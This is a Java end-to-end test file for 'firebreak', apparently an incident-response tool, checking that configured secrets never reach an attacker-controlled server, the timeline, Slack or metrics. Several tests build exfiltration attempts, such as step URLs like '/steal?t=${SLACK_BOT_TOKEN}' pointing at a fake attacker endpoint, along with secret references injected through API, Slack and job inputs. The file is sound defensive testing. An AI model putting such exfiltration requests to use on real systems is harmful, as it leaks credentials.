package dev.firebreak.worker;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.firebreak.activities.fakes.FakeHttpEndpoint;
import dev.firebreak.activities.fakes.FakeServer;
import dev.firebreak.activities.fakes.FakeSlack;
import dev.firebreak.activities.fakes.FakeSlackMessage;
import dev.firebreak.starter.slack.SlackRequests;
import java.io.IOException;
import java.net.URI;
import java.net.URLDecoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import okhttp3.mockwebserver.RecordedRequest;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Secrets never leave the worker, whichever surface a request comes in by: a maintenance window
 * over the API, {@code /maintenance} in Slack, a job's run over the API. `./firebreak dev` runs a
 * config whose only secrets are the env values below (an env map, not the process's), an attacker's
 * server on loopback records everything it receives, and no secret value may ever reach it, the
 * timeline, Slack or {@code /metrics}; the application's own server gets exactly the secrets the
 * operator wrote into its steps and job.
 */
class SecretsStayInTheWorkerEndToEndTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final HttpClient HTTP = HttpClient.newHttpClient();
  private static final String SIGNING_SECRET = "signing-secret-4711";
  private static final String CI_TOKEN = "ci-token-0f3a9";
  private static final String RESPONDER_TOKEN = "responder-token-77c1";
  private static final String APP_TOKEN = "app-token-5e2b";
  private static final String CRON_SECRET = "cron-secret-9d4c";

  private static FakeSlack slack;
  private static FakeHttpEndpoint attacker;
  private static FakeHttpEndpoint app;
  private static DevMode dev;
  private static SlackRequests slackRequests;
  private static Set<String> secrets;

  @RegisterExtension static final DevModeExtension devMode = new DevModeExtension();

  @BeforeAll
  static void startDevMode(@TempDir Path dir) throws IOException {
    slack = devMode.closeAfter(new FakeSlack());
    attacker = devMode.closeAfter(new FakeHttpEndpoint());
    app = devMode.closeAfter(new FakeHttpEndpoint());
    Map<String, String> env =
        Map.of(
            "SLACK_BOT_TOKEN", slack.token(),
            "SLACK_SIGNING_SECRET", SIGNING_SECRET,
            "SLACK_API_URL", slack.apiUrlPrefix(),
            "FIREBREAK_CI_TOKEN", CI_TOKEN,
            "RESPONDER_TOKEN", RESPONDER_TOKEN,
            "APP_TOKEN", APP_TOKEN,
            "CRON_SECRET", CRON_SECRET);
    secrets =
        Set.of(slack.token(), SIGNING_SECRET, CI_TOKEN, RESPONDER_TOKEN, APP_TOKEN, CRON_SECRET);
    Path config = dir.resolve("firebreak.yaml");
    Files.writeString(
        config,
        """
        organisation: Secrets test
        api:
          tokens:
            - { name: ci, token: "${FIREBREAK_CI_TOKEN}", roles: [admin] }
            - { name: alice, token: "${RESPONDER_TOKEN}", roles: [responder] }
        providers:
          slack:
            botToken: ${SLACK_BOT_TOKEN}
            signingSecret: ${SLACK_SIGNING_SECRET}
            channel: "#incidents"
        escalation:
          levels:
            - { name: primary, targets: ["slack:U0PRIMARY"] }
        services:
          - name: shop
            healthUrl: ${FIREBREAK_DEV_URL}/dev/services/shop/health
        maintenance:
          windows:
            - name: shop
              services: [shop]
              announce: { offsets: [1h] }
              monitoringPeriod: 1s
              monitoringInterval: 1s
              rollback: false
          steps:
            - { name: purge-cache, http: { url: "APP/purge", headers: { Authorization: "Bearer ${APP_TOKEN}" } } }
            - { name: echo-check, http: { url: "APP/echo", headers: { Authorization: "Bearer ${APP_TOKEN}" }, expectedStatus: 204 } }
            - { name: dev-ping, http: { method: GET, url: "${FIREBREAK_DEV_URL}/dev/services/shop/health" } }
            - { name: unset-secret, http: { url: "APP/unset", headers: { X-Key: "${NEVER_SET}" } } }
          allowedHosts: ["ATTACKER"]
        jobs:
          - name: nightly
            schedule: "0 3 * * *"
            action: { url: "APP/cron?key=${CRON_SECRET}" }
        """
            .replace("APP/", app.url("/"))
            .replace("ATTACKER", URI.create(attacker.url("/")).getAuthority()));
    dev = devMode.start(config, env::get);
    slackRequests = new SlackRequests(dev.apiUrl(), SIGNING_SECRET);
  }

  @Test
  void overTheApiAResponderCannotSendACallAndAnAdminsCallArrivesWithItsReferencesAsLiteralText()
      throws Exception {
    String theIssuesStep =
        "{\"name\":\"x\",\"http\":{\"url\":\""
            + attacker.url("/?t=${SLACK_BOT_TOKEN}")
            + "\",\"headers\":{\"Authorization\":\"Bearer ${FIREBREAK_CI_TOKEN}\"}}}";
    HttpResponse<String> refused =
        send("POST", "/api/v1/maintenance-windows", RESPONDER_TOKEN, window(theIssuesStep));
    String everyPlace =
        "{\"name\":\"steal\",\"http\":{\"url\":\""
            + attacker.url("/steal?t=${SLACK_BOT_TOKEN}&s=${SLACK_SIGNING_SECRET}")
            + "\",\"headers\":{\"Authorization\":\"Bearer ${FIREBREAK_CI_TOKEN}\",\"X-More\":\"${RESPONDER_TOKEN}\"},"
            + "\"body\":\"${APP_TOKEN} ${CRON_SECRET}\"}}";
    String id =
        JSON.readTree(
                send("POST", "/api/v1/maintenance-windows", CI_TOKEN, window(everyPlace)).body())
            .get("id")
            .asText();
    JsonNode done = awaitEnd(id);

    assertThat(refused.statusCode()).isEqualTo(403);
    assertThat(attacker.requests())
        .singleElement()
        .satisfies(
            request -> {
              String received = URLDecoder.decode(everythingIn(request), StandardCharsets.UTF_8);
              assertThat(received)
                  .contains(
                      "${SLACK_BOT_TOKEN}",
                      "${SLACK_SIGNING_SECRET}",
                      "Bearer ${FIREBREAK_CI_TOKEN}",
                      "${RESPONDER_TOKEN}",
                      "${APP_TOKEN} ${CRON_SECRET}");
              assertNoSecretIn(received);
            });
    assertThat(done.get("status").asText()).isEqualTo("COMPLETED");
    assertNoSecretIn(done.toString());
  }

  @Test
  void aStepsAnswerReachesTheTimelineAndSlackOnlyAsAShortExcerptWithCredentialsRedacted()
      throws Exception {
    app.answer(
        200,
        "{\"you_sent\":\"Bearer "
            + APP_TOKEN
            + "\",\"debug\":{\"slack\":\"xoxb-9999-leaked\","
            + "\"db\":\"postgres://app:hunter2@db.internal/app?password=hunter2\"}}"
            + " padding".repeat(500));
    try {
      String id =
          JSON.readTree(
                  send(
                          "POST",
                          "/api/v1/maintenance-windows",
                          RESPONDER_TOKEN,
                          window("{\"name\":\"echo-check\"}"))
                      .body())
              .get("id")
              .asText();

      JsonNode failed = awaitEnd(id);

      assertThat(failed.get("status").asText()).isEqualTo("FAILED");
      assertThat(failed.get("timeline").toString())
          .contains("echo-check failed")
          .contains("[redacted]")
          .doesNotContain("xoxb-9999")
          .doesNotContain("hunter2")
          .doesNotContain(
              "padding padding padding padding padding "
                  + "padding padding padding padding padding padding padding padding padding padding padding padding padding "
                  + "padding padding padding padding padding padding padding padding padding padding padding padding padding "
                  + "padding padding padding padding padding padding");
      assertNoSecretIn(failed.toString());
      await()
          .atMost(Duration.ofSeconds(10))
          .untilAsserted(() -> assertThat(slackTexts()).contains("echo-check failed"));
      assertNoSecretIn(slackTexts());
      assertThat(slackTexts()).doesNotContain("xoxb-9999").doesNotContain("hunter2");
    } finally {
      app.answer(200, "{\"ok\":true}");
    }
  }

  @Test
  void slacksMaintenanceCommandAddsTheConfigsStepsAndItsOwnTextStaysLiteral() throws Exception {
    int attackerHeard = attacker.requests().size();
    String responseUrl = slack.responseUrl("maintenance-schedule");
    HttpResponse<String> answer =
        slackRequests.maintenance(
            "schedule shop now 1h Purge <"
                + attacker.url("/?t=${SLACK_BOT_TOKEN}")
                + "|caches> ${FIREBREAK_CI_TOKEN} steps=purge-cache",
            "U0ALICE",
            responseUrl);
    assertThat(answer.statusCode()).isEqualTo(200);
    String id = windowIdIn(settled(answer, responseUrl));

    JsonNode done = awaitEnd(id);

    assertThat(done.get("status").asText()).isEqualTo("COMPLETED");
    RecordedRequest purge =
        app.requests().stream().filter(r -> r.getPath().equals("/purge")).findFirst().orElseThrow();
    assertThat(purge.getHeader("Authorization")).isEqualTo("Bearer " + APP_TOKEN);
    assertThat(attacker.requests()).hasSize(attackerHeard);
    await()
        .atMost(Duration.ofSeconds(10))
        .untilAsserted(() -> assertThat(slackTexts()).contains("${FIREBREAK_CI_TOKEN}"));
    assertNoSecretIn(slackTexts());
    assertNoSecretIn(done.toString());
  }

  @Test
  void aJobsRunOverTheApiSendsOnlyWhatTheConfigWroteAndItsParametersStayLiteral() throws Exception {
    int attackerHeard = attacker.requests().size();
    HttpResponse<String> ran =
        send(
            "POST",
            "/api/v1/jobs/nightly/run",
            RESPONDER_TOKEN,
            "{\"reason\":\"${SLACK_BOT_TOKEN} "
                + attacker.url("/?t=${FIREBREAK_CI_TOKEN}")
                + "\"}");

    assertThat(ran.statusCode()).as(ran.body()).isEqualTo(200);
    await()
        .atMost(Duration.ofSeconds(20))
        .until(() -> app.requests().stream().anyMatch(r -> r.getPath().startsWith("/cron")));
    RecordedRequest cron =
        app.requests().stream()
            .filter(r -> r.getPath().startsWith("/cron"))
            .findFirst()
            .orElseThrow();
    assertThat(cron.getPath()).isEqualTo("/cron?key=" + CRON_SECRET);
    assertThat(attacker.requests()).hasSize(attackerHeard);
    JsonNode job = JSON.readTree(send("GET", "/api/v1/jobs/nightly", CI_TOKEN, null).body());
    assertNoSecretIn(job.toString());
    assertNoSecretIn(slackTexts());
  }

  @Test
  void inDevModeAStepWithAnUnsetSecretIsDescribedNotSentAndTheDevUrlExpands() throws Exception {
    String id =
        JSON.readTree(
                send(
                        "POST",
                        "/api/v1/maintenance-windows",
                        RESPONDER_TOKEN,
                        window("{\"name\":\"dev-ping\"},{\"name\":\"unset-secret\"}"))
                    .body())
            .get("id")
            .asText();

    JsonNode done = awaitEnd(id);

    assertThat(done.get("status").asText()).isEqualTo("COMPLETED");
    assertThat(done.get("timeline").toString())
        .contains("dev-ping: HTTP 200")
        .contains("unset-secret: dry-run: POST " + app.url("/unset"))
        .contains("not sent: NEVER_SET not set");
    assertThat(app.requests()).noneMatch(r -> r.getPath().equals("/unset"));
  }

  @Test
  void metricsAreLabelledByTheConfiguredStepNeverByAUrlOrARequestsText() throws Exception {
    send(
        "POST",
        "/api/v1/maintenance-windows",
        CI_TOKEN,
        window(
            "{\"name\":\"a label would be free text\",\"http\":"
                + "{\"method\":\"GET\",\"url\":\""
                + attacker.url("/metrics-probe")
                + "\"}},{\"name\":\"purge-cache\"}"));

    await()
        .atMost(Duration.ofSeconds(40))
        .pollInterval(Duration.ofSeconds(1))
        .until(
            () ->
                metricLines().contains("provider=\"HTTP action purge-cache\"")
                    && metricLines().contains("provider=\"HTTP action (ad hoc)\""));
    assertThat(metricLines())
        .doesNotContain("127.0.0.1")
        .doesNotContain("free text")
        .doesNotContain("http://");
  }

  // ---- helpers

  private static String window(String steps) {
    Instant start = Instant.now().plusSeconds(1);
    return "{\"title\":\"Secrets test\",\"services\":[\"shop\"],\"start\":\""
        + start
        + "\",\"end\":\""
        + start.plusSeconds(600)
        + "\",\"confirm\":true,\"steps\":["
        + steps
        + "]}";
  }

  private static JsonNode awaitEnd(String id) throws Exception {
    await()
        .atMost(Duration.ofSeconds(60))
        .pollInterval(Duration.ofMillis(250))
        .until(
            () ->
                Set.of("COMPLETED", "FAILED", "ABORTED").contains(view(id).get("status").asText()));
    return view(id);
  }

  private static JsonNode view(String id) throws Exception {
    return JSON.readTree(send("GET", "/api/v1/maintenance-windows/" + id, CI_TOKEN, null).body());
  }

  private static String metricLines() throws Exception {
    return send("GET", "/metrics", null, null)
        .body()
        .lines()
        .filter(l -> l.startsWith("firebreak_provider_calls"))
        .collect(Collectors.joining("\n"));
  }

  private static String slackTexts() {
    return slack.channels().stream()
        .flatMap(channel -> slack.messages(channel.id()).stream())
        .map(FakeSlackMessage::toString)
        .collect(Collectors.joining("\n"));
  }

  /**
   * The request line, every header by name (okhttp's Headers#toString hides Authorization) and the
   * body.
   */
  private static String everythingIn(RecordedRequest request) {
    StringBuilder all = new StringBuilder(request.getRequestLine());
    request
        .getHeaders()
        .names()
        .forEach(
            name -> all.append('\n').append(name).append(": ").append(request.getHeader(name)));
    return all.append('\n').append(FakeServer.bodyOf(request)).toString();
  }

  private static void assertNoSecretIn(String text) {
    assertThat(secrets).allSatisfy(secret -> assertThat(text).doesNotContain(secret));
  }

  private static String settled(HttpResponse<String> answer, String responseUrl)
      throws IOException {
    String inline = JSON.readTree(answer.body()).path("text").asText();
    if (!inline.startsWith("⏳")) {
      return inline;
    }
    await().atMost(Duration.ofSeconds(10)).until(() -> !slack.responses(responseUrl).isEmpty());
    return slack.responses(responseUrl).get(0).get("text").asText();
  }

  private static String windowIdIn(String text) {
    Matcher id = Pattern.compile("\\*(MW-\\d{8}-\\d+)\\*").matcher(text);
    assertThat(id.find()).as(text).isTrue();
    return id.group(1);
  }

  private static HttpResponse<String> send(String method, String path, String token, String body)
      throws Exception {
    HttpRequest.Builder request =
        HttpRequest.newBuilder(URI.create(dev.apiUrl() + path))
            .method(
                method,
                body == null
                    ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofString(body));
    if (token != null) {
      request.header("Authorization", "Bearer " + token);
    }
    if (body != null) {
      request.header("Content-Type", "application/json");
    }
    return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
  }
}
